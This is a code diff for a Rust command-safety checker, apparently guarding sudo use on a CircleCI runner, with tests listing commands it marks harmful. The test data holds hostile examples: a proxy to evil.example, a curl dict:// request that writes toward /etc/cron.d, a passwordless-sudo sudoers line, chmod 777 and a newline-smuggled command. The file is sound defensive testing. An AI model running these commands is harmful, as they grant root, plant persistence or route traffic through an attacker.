@@ -174,6 +174,28 @@ fn danger_of(words: &[String]) -> Option<String> {
     if program == "runnerup" && rest.contains(&"--passwordless-sudo") {
         return Some("gives the right to become root".to_owned());
     }
+    let has = |wrong: &dyn Fn(&str) -> bool| rest.iter().copied().find(|word| wrong(word));
+    // A package is known by its name; a file, a version or a removal is an attack.
+    let is_package = |word: &str| {
+        ["install", "bash", "git", "gzip", "openssh-client", "tar", "sudo", "chrony"]
+            .contains(&word)
+    };
+    if program == "apt-get" && has(&|word| !is_package(word)).is_some() {
+        return Some("has another package installed, or removed".to_owned());
+    }
+    let is_foreign = |word: &str| {
+        word.contains("://") && !word.starts_with("http://") && !word.starts_with("https://")
+    };
+    if program == "curl" && has(&is_foreign).is_some() {
+        return Some("speaks another protocol than HTTP".to_owned());
+    }
+    let is_unsafe = |word: &str| matches!(word, "777" | "666" | "7777" | "4755" | "2755" | "775");
+    if program == "chmod" && has(&is_unsafe).is_some() {
+        return Some("lets others write, or keeps a special bit".to_owned());
+    }
+    if program == "runnerup" && rest.windows(2).any(|own| own[0] == "--proxy") {
+        return Some("sets a proxy of somebody's".to_owned());
+    }
     if !KNOWN.contains(&program) {
         return Some(format!("{program:?} is no known command"));
     }
@@ -292,6 +314,8 @@ fn what_is_dangerous_is_known() {
         "sudo runnerup doctor --fix",
         "sudoedit -u circleci /etc/opt/circleci/launch-agent-config.yaml",
         "sudo -l -U root",
+        "sudo apt-get install git openssh-client",
+        "sudo chmod 711 /opt/circleci",
         FIXED[0],
     ] {
         assert_eq!(danger(harmless), None, "{harmless}");
@@ -308,6 +332,11 @@ fn what_is_dangerous_is_known() {
         "sudo systemctl restart dbus.service",
         "echo 'circleci ALL=(ALL) NOPASSWD: ALL' | sudo EDITOR='tee' visudo -f /etc/sudoers.d/circleci",
         "touch /root/x",
+        "sudo apt-get install /tmp/git.deb openssh-client",
+        "sudo apt-get install sudo-",
+        "sudo chmod 777 /opt/circleci",
+        "sudo runnerup install --proxy http://evil.example:3128",
+        "curl -sS dict://127.0.0.1:11211/config:set:dir:/etc/cron.d",
         "echo a\nid",
     ] {
         assert!(danger(harmful).is_some(), "{harmful}");
